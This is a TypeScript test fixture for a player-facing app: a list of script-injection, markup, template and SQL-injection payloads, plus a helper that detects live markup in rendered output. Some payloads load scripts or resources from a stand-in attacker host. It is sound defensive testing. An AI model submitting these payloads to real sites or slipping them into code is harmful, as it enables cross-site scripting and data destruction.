/**
 * Script-injection and markup payloads (issue #6): what a hostile player might type into any text
 * other players read. Each must come back from the API unchanged and show as inert text: React
 * escapes text, and the app never renders user text as HTML; these tests keep it that way.
 */
export const INJECTION_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(document.cookie)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">click me</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '{{7*7}} ${7*7} <%= 7*7 %>',
  '<% alert(1) %>',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/x.png "onerror=alert(1)")',
  '**bold** _it_ <b>bold</b> <i>it</i>',
  '<h1>Huge heading</h1>',
  '<p style="position:fixed;inset:0;background:red">overlay</p>',
  "Robert'); DROP TABLE players;--",
  '"; DELETE FROM users; --',
  '\u202Egnp.exe',
  'zero\u200Bwidth\u200Djoiner',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<svg/onload=alert(1)//',
]

/** Elements and attributes that would mean a payload became markup. */
export function liveMarkupIn(root: ParentNode): string[] {
  const problems: string[] = []
  for (const element of root.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase()
    if (['script', 'iframe', 'object', 'embed', 'base', 'meta', 'style', 'marquee'].includes(tag))
      problems.push(`<${tag}>`)
    for (const attribute of element.attributes) {
      if (attribute.name.startsWith('on')) problems.push(`${tag}[${attribute.name}]`)
      if (
        ['href', 'src', 'action', 'data', 'srcdoc'].includes(attribute.name) &&
        /^\s*(javascript|data:text\/html|vbscript)/i.test(attribute.value)
      )
        problems.push(`${tag}[${attribute.name}=${attribute.value}]`)
    }
  }
  return problems
}
